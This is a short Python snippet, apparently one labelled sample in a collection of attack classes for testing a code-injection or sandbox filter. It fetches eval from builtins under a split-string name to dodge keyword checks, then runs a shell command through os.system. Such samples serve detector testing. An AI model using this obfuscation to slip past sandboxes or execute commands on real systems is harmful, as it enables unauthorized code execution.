# attack-class: 6
# title: getattr(__builtins__, 'ev'+'al')
# why: eval fetched by a computed name from builtins

ev = getattr(__builtins__, "ev" + "al")
ev("__import__('os').system('id')")
